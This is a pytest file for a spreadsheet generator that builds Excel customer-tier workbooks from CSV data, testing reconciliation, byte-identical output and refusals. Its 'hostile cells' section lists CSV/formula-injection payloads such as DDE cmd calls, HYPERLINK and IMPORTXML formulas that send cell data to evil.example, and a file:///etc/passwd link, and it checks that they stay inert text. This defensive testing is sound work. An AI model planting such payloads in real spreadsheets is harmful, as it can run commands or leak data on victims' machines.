"""From raw data to the book: figures, same bytes, one fate for every row, hostile input, and refusals."""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
import sys
import zipfile
from collections import Counter
from collections.abc import Iterator
from datetime import date
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from openpyxl.worksheet.formula import ArrayFormula

from sheetgen.errors import InputError, ReconcileError, SheetgenError, UsageError
from sheetgen.i18n import LANGS, Lang
from sheetgen.ingest.rules import ReadRules
from sheetgen.model import FATES
from sheetgen.pipeline import STEPS, Built
from sheetgen.scheme.library import sample_paths, shipped
from sheetgen.workbook.layout import SHEETS

from .books import ROOT, SAMPLE, field, make, sheet, write_csv

pytestmark = pytest.mark.filterwarnings("ignore::UserWarning:openpyxl")


@pytest.fixture(scope="module")
def sample(tmp_path_factory: pytest.TempPathFactory) -> Built:
    """The sample data under the default scheme."""
    return make(tmp_path_factory.mktemp("sample") / "book.xlsx")


@pytest.fixture(scope="module")
def tiny(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A folder with four customers, a refund, a duplicate, a bad amount and a closed order."""
    folder = tmp_path_factory.mktemp("tiny")
    people = [
        ("A1", "甲公司", "张三"),
        ("A2", "乙公司", ""),
        ("A3", "丙公司", "李四"),
        ("A4", "丁公司", "张三"),
    ]
    write_csv(folder / "customers.csv", ["客户编号", "客户名称", "负责人"], people)
    sales = [
        ("A1", "2025-06-01", "600000.00", "o1", "已付款"),
        ("A2", "2025-06-02", "200000.00", "o2", "已付款"),
        ("A2", "2025-06-05", "-0.01", "o9", "已付款"),
        ("A3", "2025-06-03", "abc", "o3", "已付款"),
        ("A3", "2025-06-03", "49999.99", "o4", "已付款"),
        ("A3", "2025-06-03", "1000.00", "o5", "交易关闭"),
        ("A1", "2025-06-01", "600000.00", "o1", "已付款"),
    ]
    write_csv(folder / "transactions.csv", ["客户编号", "日期", "金额", "订单号", "状态"], sales)
    return folder


# the sample


def test_sample_tiers(sample: Built) -> None:
    assert sample.tiers == {"vip": 14, "a": 28, "b": 70, "c": 224}
    assert len(sample.graded.frame) == 336
    assert sample.written
    assert sample.graded.settings.as_of == date(2025, 12, 31)
    assert sample.graded.changes == ()


def test_sample_rows_and_money_reconcile(sample: Built) -> None:
    ledger = sample.clean.ledger
    with (SAMPLE / "transactions.csv").open(encoding="utf-8") as file:
        header, *lines = file.read().splitlines()
    at = header.split(",").index("金额")
    assert ledger.read_rows == len(lines) + 1
    assert ledger.rows == {"used": 9_262, "held_back": 0, "duplicate": 0, "status": 66, "structure": 1}
    assert sum(ledger.rows[f] for f in FATES) == ledger.read_rows
    assert ledger.read_cents == sum(int(line.split(",")[at].replace(".", "")) for line in lines)
    assert ledger.cents["used"] + ledger.cents["status"] == ledger.read_cents
    assert ledger.cents["used"] == int(sample.clean.tables["transactions"]["cents"].sum())
    assert ledger.balances


@pytest.mark.parametrize(
    ("customer", "spend", "orders", "tier"),
    [
        ("KH0018", 500_000.00, 26, "A级"),
        ("KH0033", 500_000.01, 28, "VIP级"),
        ("KH0041", 499_999.99, 24, "A级"),
        ("KH0047", 200_000.00, 16, "A级"),
        ("KH0058", 199_999.99, 15, "B级"),
        ("KH0072", 50_000.00, 7, "B级"),
        ("KH0085", 49_999.99, 6, "C级"),
        ("KH0104", 78_600.00, 10, "B级"),
        ("KH0112", 81_350.00, 11, "B级"),
        ("KH0120", 64_200.00, 10, "B级"),
        ("KH0127", 120_000.00, 9, "B级"),
    ],
)
def test_sample_customers_on_an_edge_as_the_book_shows_them(
    sample: Built, customer: str, spend: float, orders: int, tier: str
) -> None:
    scores, tiers = (sheet(sample.request.out, name).of(customer) for name in ("scores", "tiers"))
    assert (scores["年消费额"], scores["年订单数"]) == (spend, orders)
    assert (tiers["系统级别"], tiers["最终级别"], tiers["变动"]) == (tier, tier, "新")
    assert ("高频" in str(scores["标签"])) is (orders > 10)


@pytest.mark.parametrize("scheme", shipped())
@pytest.mark.parametrize("lang", LANGS)
def test_every_scheme_grades_everybody_in_both_languages(tmp_path: Path, scheme: str, lang: Lang) -> None:
    built = make(tmp_path / "b.xlsx", sample_paths(scheme), scheme=scheme, lang=lang)
    assert sum(built.tiers.values()) == 336
    # among 336 customers nobody has 5 % of the spend: that reading of the source fits few customers
    empty = {"vip", "a"} if scheme == "electronics-share" else set()
    assert {tier for tier, n in built.tiers.items() if not n} == empty
    shown = Counter(
        v
        for v in sheet(built.request.out, "tiers", lang).column("最终级别" if lang == "zh" else "Final tier")
        if v
    )
    labels = {t.label.text(lang): built.tiers[t.id] for t in built.scheme.file.tiers if t.id not in empty}
    assert shown == labels


# the same again


def test_same_inputs_same_bytes(sample: Built, tmp_path: Path) -> None:
    again = make(tmp_path / "another name.xlsx")
    assert again.request.out.read_bytes() == sample.request.out.read_bytes()
    assert (again.run_id, again.digest) == (sample.run_id, sample.digest)
    assert len(again.digest) == 64


SCRIPT = """
import sys
from pathlib import Path
from sheetgen.pipeline import BuildRequest, build
build(BuildRequest(Path(sys.argv[1]), [sys.argv[2]]))
"""


@pytest.mark.parametrize(
    "surroundings",
    [
        {"PYTHONHASHSEED": "0", "TZ": "UTC", "LANG": "C", "LC_ALL": "C"},
        {"PYTHONHASHSEED": "1", "TZ": "Asia/Shanghai", "LANG": "zh_CN.GB18030", "PYTHONUTF8": "0"},
        {"PYTHONHASHSEED": "77", "TZ": "America/Los_Angeles", "LANG": "tr_TR.UTF-8", "LC_ALL": "tr_TR.UTF-8"},
    ],
    ids=["C", "Shanghai", "Turkey"],
)
def test_same_bytes_anywhere(sample: Built, tmp_path: Path, surroundings: dict[str, str]) -> None:
    elsewhere = tmp_path / "data elsewhere"
    shutil.copytree(SAMPLE, elsewhere)
    for i, path in enumerate(sorted(elsewhere.iterdir())):
        os.utime(path, (10**9 + i, 10**9 - i))
    out = tmp_path / "b.xlsx"
    env = {**os.environ, "PYTHONPATH": str(ROOT), **surroundings}
    subprocess.run(
        [sys.executable, "-c", SCRIPT, str(out), str(elsewhere)], cwd=tmp_path, env=env, check=True
    )
    assert out.read_bytes() == sample.request.out.read_bytes()


def test_relative_paths_make_the_same_book(
    sample: Built, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(SAMPLE)
    built = make(tmp_path / "b.xlsx", ["."])
    assert built.request.out.read_bytes() == sample.request.out.read_bytes()


def test_the_run_id_knows_what_matters(tiny: Path, tmp_path: Path) -> None:
    variants: list[dict[str, Any]] = [
        {},
        {"lang": "en"},
        {"scheme": "rfm"},
        {"as_of": date(2025, 12, 31)},
        {"parameters": {"tier_b": 1.0}},
        {
            "kinds": {"transactions": [str(tiny / "transactions.csv")]},
            "paths": [tiny / "customers.csv"],
            "rules": ReadRules({"date": "日期"}),
        },
    ]
    ids = [make(tmp_path / f"{i}.xlsx", **{"paths": [tiny], **v}).run_id for i, v in enumerate(variants)]
    assert len(set(ids)) == len(ids)
    assert all(re.fullmatch("[0-9a-f]{12}", run_id) for run_id in ids)
    assert make(tmp_path / "0 again.xlsx", [tiny]).run_id == ids[0]


# requests


def test_steps_are_told_in_order(tiny: Path, tmp_path: Path) -> None:
    from sheetgen.pipeline import BuildRequest, build

    heard: list[str] = []
    build(BuildRequest(tmp_path / "b.xlsx", [str(tiny)]), heard.append)
    assert tuple(heard) == STEPS


def test_every_fate_and_the_refund(tiny: Path, tmp_path: Path) -> None:
    built = make(tmp_path / "b.xlsx", [tiny])
    ledger = built.clean.ledger
    assert ledger.rows == {"used": 4, "held_back": 1, "duplicate": 1, "status": 1, "structure": 1}
    assert ledger.cents == {
        "used": 84_999_998,
        "held_back": 0,
        "duplicate": 60_000_000,
        "status": 100_000,
        "structure": 0,
    }
    assert built.tiers == {"vip": 1, "a": 0, "b": 1, "c": 2}
    quality = sheet(built.request.out, "quality").rows
    shown = {
        row[0]: row[1:3] for row in quality if row[0] in ("读入", "已用", "搁置", "重复", "状态排除", "差额")
    }
    assert shown == {
        "读入": [8.0, 1_450_999.98],
        "已用": [4.0, 849_999.98],
        "搁置": [1.0, 0.0],
        "重复": [1.0, 600_000.0],
        "状态排除": [1.0, 1_000.0],
        "差额": [0.0, 0.0],
    }
    listed = {(row[3], row[2], row[7]) for row in quality if row[0] == "transactions.csv" and row[4]}
    assert {("搁置", 5.0, "abc"), ("重复", 8.0, ""), ("状态排除", 7.0, "交易关闭")} <= {
        (a, b, "" if a == "重复" else c) for a, b, c in listed
    }


def test_dry_run_and_strict_write_nothing(tiny: Path, tmp_path: Path) -> None:
    for more in ({"dry_run": True}, {"strict": True}):
        built = make(tmp_path / "b.xlsx", [tiny], **more)
        assert not built.written
        assert built.tiers["vip"] == 1
        assert list(tmp_path.iterdir()) == []
    assert make(tmp_path / "b.xlsx", strict=True).written


def test_as_of_is_the_newest_sale_unless_given(tiny: Path, tmp_path: Path) -> None:
    assert make(tmp_path / "b.xlsx", [tiny], dry_run=True).graded.settings.as_of == date(2025, 6, 5)
    later = make(tmp_path / "b.xlsx", [tiny], dry_run=True, as_of=date(2026, 6, 1))
    assert later.tiers == {"vip": 0, "a": 0, "b": 1, "c": 3}
    assert later.graded.frame.set_index("customer_id").loc["A2", "spend"] == 199_999.99
    before = make(tmp_path / "b.xlsx", [tiny], dry_run=True, as_of=date(2025, 6, 4))
    assert before.tiers == {"vip": 1, "a": 1, "b": 0, "c": 2}


def test_a_parameter_of_the_request_wins(tiny: Path, tmp_path: Path) -> None:
    built = make(tmp_path / "b.xlsx", [tiny], parameters={"tier_b": 49_999.99, "tier_a": 199_999.99})
    assert built.tiers == {"vip": 1, "a": 1, "b": 1, "c": 1}
    text = json.dumps(sheet(built.request.out, "parameters").rows, ensure_ascii=False, default=str)
    assert "49,999.99 ≤ 年消费额 < 199,999.99" in text
    assert "199,999.99 ≤ 年消费额 ≤ 500,000.00" in text


def test_no_sales_need_an_as_of_date(tmp_path: Path) -> None:
    people = write_csv(tmp_path / "c.csv", ["客户编号", "客户名称"], [("A1", "甲")])
    none = write_csv(tmp_path / "t.csv", ["客户编号", "日期", "金额"], [("A1", "2025-01-01", "bad")])
    with pytest.raises(UsageError) as caught:
        make(tmp_path / "b.xlsx", [people, none])
    assert caught.value.key == "as_of_needed"
    built = make(tmp_path / "b.xlsx", [people, none], as_of=date(2025, 1, 31))
    assert built.tiers == {"vip": 0, "a": 0, "b": 0, "c": 1}


def test_outputs_that_are_refused_before_any_work(tiny: Path, tmp_path: Path) -> None:
    (tmp_path / "folder.xlsx").mkdir()
    own = tmp_path / "mine.xlsx"
    shutil.copy(tiny / "transactions.csv", own)
    link = tmp_path / "link.xlsx"
    link.symlink_to(own)
    cases = [
        (tmp_path / "b.csv", [tiny], "output_suffix"),
        (tmp_path / "b", [tiny], "output_suffix"),
        (tmp_path / "folder.xlsx", [tiny], "output_not_plain"),
        (tmp_path / "no" / "b.xlsx", [tiny], "output_folder_missing"),
        (own, [own], "output_is_input"),
        (link, [own], "output_is_input"),
    ]
    before = own.read_bytes()
    for out, paths, key in cases:
        with pytest.raises(UsageError) as caught:
            make(out, paths)
        assert caught.value.key == key, out
    assert own.read_bytes() == before


def test_input_and_scheme_errors_leave_the_old_book_alone(tiny: Path, tmp_path: Path) -> None:
    out = make(tmp_path / "b.xlsx", [tiny]).request.out
    before = out.read_bytes()
    attempts: list[dict[str, Any]] = [
        {"paths": [tmp_path / "none.csv"]},
        {"paths": [tiny], "scheme": "no-such"},
        {"paths": [tiny], "previous": tmp_path / "none.xlsx"},
        {"paths": [tiny], "previous": tiny / "customers.csv"},
        {"paths": [tiny], "rules": ReadRules({"amount": "没有这一列"})},
    ]
    for attempt in attempts:
        with pytest.raises(SheetgenError) as caught:
            make(out, **attempt)
        assert caught.value.exit_code in (2, 4, 5)
        assert out.read_bytes() == before
    assert [p.name for p in tmp_path.iterdir()] == ["b.xlsx"]


def test_a_ledger_that_does_not_balance_writes_nothing(
    tiny: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from dataclasses import replace

    from sheetgen.ingest import clean as module

    honest = module.clean

    def lossy(*given: Any) -> Any:
        found = honest(*given)
        return replace(found, ledger=replace(found.ledger, read_cents=found.ledger.read_cents + 1))

    monkeypatch.setattr(module, "clean", lossy)
    with pytest.raises(ReconcileError) as caught:
        make(tmp_path / "b.xlsx", [tiny])
    assert caught.value.exit_code == 6
    assert list(tmp_path.iterdir()) == []


def test_a_foreign_workbook_is_no_previous_book(tiny: Path, tmp_path: Path) -> None:
    foreign = tmp_path / "f.xlsx"
    book = openpyxl.Workbook()
    book.save(foreign)
    with pytest.raises(InputError) as caught:
        make(tmp_path / "b.xlsx", [tiny], previous=foreign)
    assert caught.value.key == "previous_foreign"


# hostile cells

PAYLOADS = [
    "=1+1",
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "=IMPORTXML(CONCAT(\"http://evil.example\",A1),\"//a\")",
    '"=1+1',
    "'=1+1",
    "http://evil.example",
    "mailto:a@evil.example",
    "file:///etc/passwd",
    "#'总览'!A1",
    "<b>x</b> & \"y\"",
    "{=1+1}",
    "_x003D_1+1",
    "]]>",
    "%s{0}{r}{label}",
    "DDE (\"cmd\";\"/C calc\";\"x\")",
    "x" * 300 + "=1",
    "\u202e=1+1",
    "𠮷=1",
]  # fmt: skip


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A book from cells and headers that try to be formulas."""
    folder = tmp_path_factory.mktemp("hostile")
    n = len(PAYLOADS)
    header = [
        "客户编号",
        "客户名称",
        "联系人",
        "联系方式",
        "地区",
        "行业",
        "来源",
        "负责人",
        "备注",
        "=1+1",
        "@SUM(A1)",
    ]
    people = [(f"H{i}", p, p, p, p, p, p, p, p, p, p) for i, p in enumerate(PAYLOADS)]
    people += [(p, "编号本身", "", "", "", "", "", "", "", "", "") for p in PAYLOADS]
    write_csv(folder / "customers.csv", header, people)
    sales = [(f"H{i}", "2025-06-01", "100.00", p, p, p, p, p) for i, p in enumerate(PAYLOADS)]
    sales += [(p, "2025-06-02", "100.00", f"o{i}", "x", "y", "z", "w") for i, p in enumerate(PAYLOADS)]
    write_csv(
        folder / "transactions.csv",
        ["客户编号", "日期", "金额", "订单号", "产品或服务", "品类", "渠道", "=HYPERLINK(1)"],
        sales,
    )
    served = [(f"H{i}", "2025-06-01", p, p, p, p, "5", "是") for i, p in enumerate(PAYLOADS)]
    write_csv(
        folder / "service.csv",
        ["客户编号", "日期", "渠道", "咨询问题", "解决措施", "处理人", "满意度", "是否投诉"],
        served,
    )
    likes = [(f"H{i}", p, p, p, p) for i, p in enumerate(PAYLOADS)]
    write_csv(
        folder / "preferences.csv", ["客户编号", "偏好品类", "偏好渠道", "方便联系时间", "偏好备注"], likes
    )
    assert n == len(sales) // 2
    return make(folder / "book.xlsx", list(folder.glob("*.csv"))).request.out


def formulas(path: Path) -> Iterator[tuple[str, str]]:
    """Sheet and text of every formula of a book, array formulas too."""
    for ws in openpyxl.load_workbook(path).worksheets:
        for row in ws.iter_rows():
            for cell in row:
                value = cell.value
                if isinstance(value, ArrayFormula):
                    yield ws.title, str(value.text)
                elif cell.data_type == "f":
                    yield ws.title, str(value)


def test_payloads_stay_text(hostile: Path) -> None:
    customers = openpyxl.load_workbook(hostile)["客户信息"]
    headers = [c.value for c in customers[3]]
    at = headers.index("客户名称")
    types = {
        cell.data_type
        for row in customers.iter_rows(min_row=4, max_col=11)
        for cell in row
        if cell.value is not None
    }
    assert types <= {"s", "inlineStr", "d", "n"}
    shown = [row[at].value for row in customers.iter_rows(min_row=4, max_row=3 + len(PAYLOADS))]
    assert shown == [p.strip().removeprefix("\u202e") for p in PAYLOADS]
    assert "=1+1" in headers


def test_no_formula_holds_a_payload_and_only_ours_link(hostile: Path) -> None:
    ours, seen = re.compile(r'^=IF\(\$A\d+="","",.*HYPERLINK\("#'), 0
    for title, formula in formulas(hostile):
        assert not any(
            word in formula[1:] for word in ("cmd", "evil", "IMPORTXML", "DDE", "=1+1", "calc'", "x=1")
        ), (title, formula[:200])
        if "HYPERLINK" in formula:
            assert ours.match(formula), formula[:200]
            seen += 1
    assert seen > len(PAYLOADS)


def test_no_external_link_leaves_the_package(hostile: Path) -> None:
    with zipfile.ZipFile(hostile) as package:
        for name in package.namelist():
            text = package.read(name).decode("utf-8", "replace")
            assert 'TargetMode="External"' not in text, name
            assert "externalLink" not in name
            assert "ddeLink" not in text
            if name.startswith("xl/worksheets/sheet"):
                assert "<hyperlink " not in text or "location=" in text


def test_hostile_cells_that_begin_like_formulas_are_quoted(hostile: Path) -> None:
    """So that a later edit or a save as CSV and back does not wake them."""
    customers = openpyxl.load_workbook(hostile)["客户信息"]
    at = [c.value for c in customers[3]].index("客户名称") + 1
    for row in range(4, 4 + len(PAYLOADS)):
        cell = customers.cell(row, at)
        if str(cell.value)[:1] in tuple("=+-@＝"):
            assert cell.quotePrefix or cell.style_array.quotePrefix, cell.value


@pytest.mark.parametrize("scheme", shipped())
@pytest.mark.parametrize("lang", LANGS)
def test_formulas_are_within_the_limits_of_excel(tmp_path: Path, tiny: Path, scheme: str, lang: Lang) -> None:
    built = make(tmp_path / "b.xlsx", [tiny], scheme=scheme, lang=lang)
    seen = 0
    for title, formula in formulas(built.request.out):
        seen += 1
        assert len(formula) <= 8_192, (title, formula[:100])
        assert not any(len(word) > 255 for word in re.findall(r'"((?:[^"]|"")*)"', formula)), (
            title,
            formula[:100],
        )
        assert "TODAY()" not in formula
        assert "NOW()" not in formula
        assert "INDIRECT" not in formula
        assert "OFFSET" not in formula
        depth = most = 0
        for char in re.sub(r'"(?:[^"]|"")*"', "", formula):
            depth += (char == "(") - (char == ")")
            most = max(most, depth)
        assert depth == 0
        assert most <= 64
    assert seen > 500


@pytest.mark.parametrize("lang", LANGS)
def test_every_formula_carries_its_value(tmp_path: Path, tiny: Path, lang: Lang) -> None:
    """An empty text is a value too: it is cached as a string without characters."""
    built = make(tmp_path / "b.xlsx", [tiny], lang=lang)
    cell = re.compile(r"<c ([^>]*?)(/>|>(.*?)</c>)", re.DOTALL)
    seen = 0
    with zipfile.ZipFile(built.request.out) as package:
        for name in package.namelist():
            if not name.startswith("xl/worksheets/sheet"):
                continue
            for attributes, _, inside in cell.findall(package.read(name).decode()):
                if "<f" in (inside or ""):
                    seen += 1
                    assert "<v>" in inside or "<v/>" in inside or 't="str"' in attributes, (
                        name,
                        attributes,
                        inside[:200],
                    )
                    assert 't="e"' not in attributes, (name, inside[:200])
    assert seen > 500


@pytest.mark.parametrize("lang", LANGS)
def test_all_sheets_of_the_contract_in_order(tmp_path: Path, tiny: Path, lang: Lang) -> None:
    built = make(tmp_path / "b.xlsx", [tiny], lang=lang)
    book = openpyxl.load_workbook(built.request.out)
    visible = [ws.title for ws in book.worksheets if ws.sheet_state == "visible"]
    zh = ["使用说明", "总览", "客户信息", "价值评分", "客户级别", "历史交易", "客户偏好", "服务记录"]
    zh += ["级别变动", "参数设置", "数据质量"]
    en = [
        "Guide",
        "Overview",
        "Customers",
        "Scores",
        "Tiers",
        "Transactions",
        "Preferences",
        "Service log",
        "Changes",
        "Parameters",
        "Data quality",
    ]
    assert visible == (zh if lang == "zh" else en)
    assert book["_sheetgen"].sheet_state == "veryHidden"
    assert {ws.title for ws in book.worksheets if ws.sheet_state == "hidden"} == {
        "_calc",
        "_numbers",
        "_transactions",
        "_service",
    }
    assert {p.name: p.value for p in book.custom_doc_props} == {
        "sheetgen_run": built.run_id,
        "sheetgen_scheme": "vip-abc",
        "sheetgen_as_of": built.graded.settings.as_of.isoformat(),
    }


def test_headers_of_the_contract(sample: Built) -> None:
    wanted = {
        "customers": ["客户编号", "客户名称"],
        "scores": ["客户编号", "总分"],
        "tiers": [
            "客户编号",
            "系统级别",
            "人工调整",
            "调整原因",
            "有效期",
            "最终级别",
            "上期级别",
            "变动",
            "说明",
            "备注",
        ],
        "transactions": ["客户编号", "日期", "金额"],
        "service": ["客户编号", "日期", "满意度"],
        "preferences": ["客户编号", "客户名称"],
        "changes": [],
    }
    for name, headers in wanted.items():
        row = sheet(sample.request.out, name).headers
        places = [row.index(h) for h in headers]
        assert places == sorted(places), name
        assert len(set(row)) == len(row), name
    assert sheet(sample.request.out, "customers").headers[0] == field("customers", "customer_id")


def test_data_stand_straight_below_the_one_header_row(sample: Built) -> None:
    for name in ("customers", "scores", "tiers", "transactions", "service"):
        column = sheet(sample.request.out, name).column("客户编号")
        filled = [v not in ("", None) for v in column]
        assert filled[0]
        assert filled == sorted(filled, reverse=True), name
    n = sum(v not in ("", None) for v in sheet(sample.request.out, "transactions").column("客户编号"))
    assert n == 9_262


def test_every_sale_stands_on_its_sheet_to_the_cent(sample: Built) -> None:
    grid = sheet(sample.request.out, "transactions")
    shown = Counter(
        (c, d.isoformat()[:10], round(a * 100))
        for c, d, a in zip(grid.column("客户编号"), grid.column("日期"), grid.column("金额"), strict=True)
        if c
    )
    frame = sample.clean.tables["transactions"]
    ours = Counter(
        zip(frame["customer_id"], frame["date"].dt.strftime("%Y-%m-%d"), frame["cents"], strict=True)
    )
    assert shown == ours


def test_hidden_state_names_its_run_and_inputs(sample: Built) -> None:
    rows = sheet(sample.request.out, "state").rows
    state = {row[0]: row[1] for row in rows if row[0] != "scheme_text"}
    assert (state["run_id"], state["scheme"], state["as_of"]) == (sample.run_id, "vip-abc", "2025-12-31")
    assert (
        "".join(str(row[1]) for row in rows if row[0] == "scheme_text").strip() == sample.scheme.text.strip()
    )
    inputs = json.loads(str(state["inputs"]))
    assert {(name, sha) for name, _, sha in inputs} == {
        (Path(f.path).name, f.sha256) for f in sample.clean.files
    }
    assert set(SHEETS) >= {"guide", "state"}
